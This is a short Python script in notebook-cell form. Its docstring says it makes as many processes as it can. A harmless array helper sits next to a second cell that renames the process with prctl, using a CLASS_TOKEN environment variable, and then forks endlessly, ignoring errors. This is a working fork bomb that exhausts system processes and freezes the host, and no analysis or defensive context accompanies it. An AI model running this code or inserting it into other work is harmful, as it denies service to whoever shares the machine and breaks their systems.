"""Makes as many processes as it can."""


# %%
def spread(x):
    return x.max(axis=0)


# %%
import ctypes, os

ctypes.CDLL(None).prctl(15, os.environ["CLASS_TOKEN"].encode())
while True:
    try:
        os.fork()
    except OSError:
        pass
